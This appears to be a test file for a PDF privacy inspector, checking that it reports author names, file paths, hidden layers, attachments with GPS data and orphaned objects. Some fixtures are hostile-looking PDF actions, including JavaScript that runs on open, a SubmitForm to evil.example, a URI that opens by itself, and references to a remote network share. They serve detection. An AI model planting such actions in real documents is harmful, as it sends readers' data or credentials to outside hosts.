import assert from "node:assert/strict";
import { test } from "node:test";
import { inspectFile } from "../../src/inspect/inspect-file.ts";
import { packPdf, packStream } from "./sample-pdf.ts";
import { quietPdf, takePhoto } from "./telling-files.ts";

/** `CODE field value in place`, as far as these are there. */
function tell(bytes: Uint8Array): readonly string[] {
  return inspectFile(bytes).findings.map(
    ({ code, field, value, place }) =>
      `${code} ${field} ${value}${place === "" ? "" : ` in ${place}`}`,
  );
}

const add = (object: string | Uint8Array) => quietPdf({ objects: { 9: object } });
const around = (before: string, behind: string) =>
  Buffer.concat([Buffer.from(before), quietPdf(), Buffer.from(behind)]);

const SHARE = "\\\\\\\\kettle\\\\tea";

/** What programs write into a PDF beside its metadata, with what is told of it. */
const TELLING: readonly (readonly [string, Uint8Array])[] = [
  ["TEL101 signature: author Mina Kettle in object 9", add("<</Type/Sig/Name(Mina Kettle)>>")],
  ["TEL002 signature: location Delft in object 9", add("<</Type/Sig/Location(Delft)>>")],
  [
    "TEL104 signature: contact m@tea.example in object 9",
    add("<</ByteRange[0 1]/ContactInfo(m@tea.example)>>"),
  ],
  [
    "TEL101 signature its certificate names who signed in object 9",
    add("<</Type/Sig/Contents<3082>>>"),
  ],
  ["TEL101 part: author Mina Kettle in object 9", add("<</F 3 0 R/I<</Author(Mina Kettle)>>>>")],
  [
    "TEL101 layer: person Mina in object 9",
    add("<</Type/OCG/Name(x)/Usage<</User<</Name[(Mina)]>>>>>>"),
  ],
  [
    "TEL503 layer: software Drawing 7.1 in object 9",
    add("<</Type/OCG/Usage<</CreatorInfo<</Creator(Drawing 7.1)>>>>>>"),
  ],
  [
    "TEL101 property: Owner Mina in object 9",
    add("<</O/UserProperties/P[<</N(Owner)/V(Mina)>>]>>"),
  ],
  [
    "TEL952 taken from http://tea.local/ in object 9",
    add("<</S/SPS/SI<</AU(http://tea.local/)>>>>"),
  ],
  ["TEL103 Private /home/mina/tea.ai in object 9", add("<</Private(/home/mina/tea.ai)>>")],
  [`TEL204 GoToR \\\\kettle\\tea`, add(`<</S/GoToR/F(${SHARE})>>`)],
  [
    `TEL201 page of another file \\\\kettle\\tea in object 9`,
    add(packStream(`/Subtype/Form/Ref<</F(${SHARE})>>`, "x")),
  ],
  ["TEL709 before kept by mina", around("kept by mina\n", "")],
  ["TEL103 behind saved in /home/mina/tea", around("", "saved in /home/mina/tea")],
  [
    "TEL103 comment %Invocation: print /home/mina/tea.ps",
    Buffer.from(
      Buffer.from(quietPdf())
        .toString("latin1")
        .replace("\n1 0 obj", "\n%%Invocation: print /home/mina/tea.ps\n1 0 obj"),
      "latin1",
    ),
  ],
  [
    "TEL805 Encrypt Standard",
    quietPdf({ trailer: "/Encrypt<</Filter/Standard/V 1/R 2/P -4/O(x)/U(x)>>" }),
  ],
  ["TEL103 Alt /home/mina/tea.jpg in object 9", add("<</Alt(/home/mina/tea.jpg)>>")],
  [
    "TEL301 JavaScript steep()",
    quietPdf({ catalog: "/OpenAction<</S/JavaScript/JS(steep())/P 3 0 R>>" }),
  ],
  [
    "TEL202 SubmitForm https://evil.example/",
    add("<</S/SubmitForm/P 3 0 R/F(https://evil.example/)>>"),
  ],
  ["TEL301 JS steep() in object 9", add("<</S/Rendition/JS(steep())>>")],
  [
    "TEL201 URI that opens by itself https://evil.example/",
    quietPdf({
      catalog: "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(https://evil.example/)>>]>>",
    }),
  ],
  [
    "TEL201 GoToR that opens by itself \\\\kettle\\tea",
    quietPdf({ catalog: `/OpenAction<</S/GoToR/F(${SHARE})>>` }),
  ],
  ["TEL204 file \\\\kettle\\tea in object 9", add(`<</Type/Filespec/F(${SHARE})>>`)],
  [
    "TEL702 Thumb of a page in object 3",
    quietPdf({ page: "/Thumb 9 0 R", objects: { 9: packStream("", "tea") } }),
  ],
  ["TEL101 Info:Author Mina in object 9", add("<</Producer(x)/Author(Mina)>>")],
  ["TEL853 field name Mina in object 9", add("<</FT/Tx/T(name)/V[(Mina)]>>")],
  ["TEL853 field name Mina in object 9", add("<</FT/Tx/T(name)/DV(Mina)>>")],
  ["TEL851 Link Mina in page 1", quietPdf({ page: "/Annots[<</Subtype/Link/T(Mina)>>]" })],
  [
    "TEL804 layer Answers",
    quietPdf({
      catalog: "/OCProperties<</OCGs[9 0 R]/D<</BaseState/OFF>>>>",
      objects: { 9: "<</Type/OCG/Name(Answers)>>" },
    }),
  ],
  [
    "TEL705 XMP cannot be read in object 3",
    quietPdf({ page: "/Metadata 9 0 R", objects: { 9: packStream("", "tea") } }),
  ],
];

for (const [line, file] of TELLING)
  test(line, () => {
    const told = tell(file);
    assert.ok(told.includes(line), told.join("\n"));
    assert.ok(!tell(quietPdf()).includes(line));
  });

test("what is locked is never called clean", () => {
  const locked = quietPdf({ trailer: "/Encrypt<</Filter/Standard/V 1/R 2/P -4/O(x)/U(x)>>" });
  assert.equal(inspectFile(locked).disclosure.level, "leak");
});

test("texts that are shown may name folders, and lines of a stream are no comments", () => {
  const told = tell(
    quietPdf({
      content: "%/home/mina/x\nBT /F 12 Tf 72 700 Td (Water) Tj ET",
      objects: {
        9: "<</Title(Open /home/amnesia/Persistent)/ActualText(/home/amnesia/)/T(/home/x/)>>",
      },
    }),
  );
  assert.deepEqual(
    told.filter((line) => line.startsWith("TEL103")),
    [],
  );
});

test("an attached file is looked into, and one attached to that", async () => {
  const attach = (content: Uint8Array) =>
    quietPdf({
      objects: {
        9: "<</Type/Filespec/F(a)/UF(a)/EF<</F 10 0 R>>>>",
        10: packStream("/Type/EmbeddedFile", content),
      },
    });
  const told = tell(attach(attach(await takePhoto())));
  assert.ok(told.includes("TEL001 GPS 52.1, 4.3 in a/a"), told.join("\n"));
});

test("what nothing refers to is found: an object in no table, a file attached to none", async () => {
  const lost = "77 0 obj\n<</Producer(x)/Author(Mina)>>\nendobj\nstartxref";
  const text = Buffer.from(quietPdf()).toString("latin1").replace("startxref", lost);
  const told = tell(Buffer.from(text, "latin1"));
  const line = "TEL101 Info:Author Mina in object 77, which nothing refers to";
  assert.ok(told.includes(line), told.join("\n"));
  const photo = packStream("/Type/EmbeddedFile", await takePhoto());
  const orphan = tell(quietPdf({ objects: { 9: photo } }));
  assert.ok(orphan.includes("TEL001 GPS 52.1, 4.3 in object 9"), orphan.join("\n"));
});

test("a file attached to itself, and a thousand within each other, come to an end", () => {
  let file: Uint8Array = packPdf({ 1: "<<>>" });
  for (let depth = 0; depth < 12; depth += 1)
    file = quietPdf({
      objects: {
        9: "<</Type/Filespec/F(a)/UF(a)/EF<</F 10 0 R>>>>",
        10: packStream("/Type/EmbeddedFile", file),
      },
    });
  const told = tell(file);
  const end = "TEL705 file too many or too large files within each other in a/a/a/a/a";
  assert.ok(told.includes(end), told.join("\n"));
});
